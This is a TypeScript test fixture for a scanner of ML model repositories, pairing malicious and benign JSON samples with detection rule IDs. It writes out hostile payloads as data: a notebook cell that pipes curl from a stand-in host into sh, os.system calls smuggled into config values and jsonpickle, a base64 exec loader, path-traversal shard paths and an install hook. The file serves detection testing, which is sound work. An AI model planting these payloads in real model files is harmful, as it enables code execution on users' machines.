import { Buffer } from 'node:buffer'
import type { FormatSamples, Sample } from './types.ts'

const json = (name: string, path: string, value: unknown, rules?: string[]): Sample => ({
  name,
  path,
  bytes: Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)),
  ...(rules === undefined ? {} : { rules }),
})

export const jsonSamples: FormatSamples = {
  kind: 'json',
  malicious: [
    json('code of another repository', 'config.json', { auto_map: { AutoModel: 'o/r--m.X' } }, ['REPO-CODE-002']),
    json(
      'code of the model, in a nested config',
      'config.json',
      { vision_config: { auto_map: { AutoModel: 'm.X' } } },
      ['REPO-CODE-001'],
    ),
    json('a shard outside', 'model.safetensors.index.json', { weight_map: { a: '../../x.safetensors' } }, [
      'REPO-INDEX-001',
    ]),
    json('a pickle among the shards', 'model.safetensors.index.json', { weight_map: { a: 'pytorch_model.bin' } }, [
      'REPO-INDEX-002',
    ]),
    json('trust asked for', 'config.json', { loader: { trust_remote_code: true } }, ['REPO-TRUST-001']),
    json('kernels of another repository', 'config.json', { _attn_implementation: 'owner/kernels' }, [
      'REPO-KERNEL-001',
    ]),
    json('a target', 'config.json', { model: { _target_: 'os.system', command: 'id' } }, ['CFG-TARGET-001']),
    json('a target with parameters', 'config.json', { model: { target: 'my.pkg.Thing', params: {} } }, [
      'CFG-TARGET-002',
    ]),
    json(
      'a module of a sentence model',
      'modules.json',
      [{ idx: 0, name: '0', path: '', type: 'custom.Transformer' }],
      ['REPO-CODE-001'],
    ),
    json(
      'a base class of an adapter',
      'adapter_config.json',
      { auto_mapping: { parent_library: 'os', base_model_class: 'system' } },
      ['CFG-TARGET-001'],
    ),
    json('a component of a pipeline', 'model_index.json', { _class_name: 'X', unet: ['evil_lib', 'Net'] }, [
      'REPO-COMPONENT-001',
    ]),
    json('a class of a pipeline', 'model_index.json', { _class_name: ['pipe', 'X'] }, ['REPO-CODE-001']),
    json('jsonpickle', 'state.json', { 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] }, [
      'CFG-TARGET-001',
    ]),
    json('a call in a value', 'config.json', { activation: "__import__('os').system('id')" }, ['JSON-CODE-001']),
    json(
      'an operator of skops',
      'schema.json',
      {
        __class__: 'X',
        __module__: 'sklearn',
        __loader__: 'ObjectNode',
        content: { __class__: 'methodcaller', __module__: 'operator', __loader__: 'OperatorFuncNode' },
      },
      ['SKOPS-OPERATOR-001'],
    ),
    json(
      'a method of skops',
      'schema.json',
      { a: { __class__: 'X', __module__: 'builtins', __loader__: 'MethodNode' } },
      ['SKOPS-METHOD-001'],
    ),
    json(
      'a type of skops',
      'schema.json',
      { a: { __class__: 'system', __module__: 'os', __loader__: 'FunctionNode' } },
      ['SKOPS-TYPE-001'],
    ),
    json(
      'a notebook that fetches and runs',
      'demo.ipynb',
      { nbformat: 4, cells: [{ cell_type: 'code', source: ['!curl http://x.invalid/a | sh\n'] }] },
      ['SRC-RUN-001'],
    ),
    json(
      'a notebook that hides code',
      'demo.ipynb',
      { nbformat: 4, cells: [{ cell_type: 'code', source: 'import base64\nexec(base64.b64decode("eA=="))' }] },
      ['PY-HIDDEN-001'],
    ),
    json('a name of a callable', 'config.json', { hooks: { after: 'os.system' } }, ['JSON-CODE-001']),
    json('a member of objects', 'config.json', { state: { __reduce__: ['x'] } }, ['JSON-CODE-001']),
    json('weights of a browser model outside', 'model.json', { weightsManifest: [{ paths: ['../../x.bin'] }] }, [
      'REPO-PATH-001',
    ]),
    json(
      'a shard behind percent signs',
      'model.safetensors.index.json',
      { weight_map: { a: '%2e%2e/x.safetensors' } },
      ['REPO-INDEX-001'],
    ),
    json('an install script', 'package.json', { scripts: { postinstall: 'node x.js' } }, ['REPO-INSTALL-001']),
    json('a template one level down', 'processor_config.json', {
      tokenizer: { chat_template: "{{ ''.__class__.__mro__ }}" },
    }),
  ],
  benign: [
    json('a config', 'config.json', {
      architectures: ['LlamaForCausalLM'],
      model_type: 'llama',
      _name_or_path: '/home/x/y',
      _attn_implementation: 'sdpa',
      trust_remote_code: false,
      target: 'x',
    }),
    json('a pipeline', 'model_index.json', {
      _class_name: 'StableDiffusionPipeline',
      _diffusers_version: '0.30.0',
      unet: ['diffusers', 'UNet2DConditionModel'],
      text_encoder: ['transformers', 'CLIPTextModel'],
      safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
      feature_extractor: [null, null],
    }),
    json('a part of a pipeline', 'config.json', {
      _class_name: 'UNet2DConditionModel',
      down_block_types: ['CrossAttnDownBlock2D', 'DownBlock2D'],
    }),
    json('modules of a sentence model', 'modules.json', [
      { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
      { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
    ]),
    json('a vocabulary of code', 'tokenizer.json', {
      model: { type: 'BPE', vocab: { 'eval(': 0, "exec('": 1, '__import__(': 2, 'os.system(': 3 }, merges: [] },
    }),
    json('an adapter', 'adapter_config.json', {
      base_model_name_or_path: 'org/model',
      auto_mapping: {
        parent_library: 'transformers.models.llama.modeling_llama',
        base_model_class: 'LlamaForCausalLM',
      },
    }),
    json('a notebook', 'demo.ipynb', {
      nbformat: 4,
      cells: [
        { cell_type: 'markdown', source: ['exec(x)'] },
        {
          cell_type: 'code',
          source: ['!pip install torch\n', '%matplotlib inline\n', 'import subprocess\n', 'subprocess.run(["ls"])'],
        },
      ],
    }),
    json('a booster', 'model.json', {
      learner: { gradient_booster: { name: 'gbtree' }, objective: { name: 'reg:squarederror' } },
      version: [2, 0, 0],
    }),
  ],
  truncated: json('cut', 'config.json', '{"auto_map":{"AutoModel":"m.X"},"a":'),
  mutations: [
    json('escaped names', 'config.json', '{"auto\\u005fmap":{"AutoModel":"o\\u002fr\\u002d-m.X"}}', ['REPO-CODE-002']),
    json('in lists', 'config.json', { a: [[{ b: [{ _target_: 'subprocess.run' }] }]] }, ['CFG-TARGET-001']),
    json(
      'behind much else',
      'config.json',
      { text_config: { pad: Array.from({ length: 5_000 }, (_none, i) => i), auto_map: { A: 'm.X' } } },
      ['REPO-CODE-001'],
    ),
    json('the second of two', 'config.json', '{"auto_map":{},"auto_map":{"A":"m.X"}}', [
      'REPO-CODE-001',
      'JSON-DUP-001',
    ]),
    json('under another name', 'weights', { auto_map: { A: 'o/r--m.X' } }, ['REPO-CODE-002']),
  ],
}
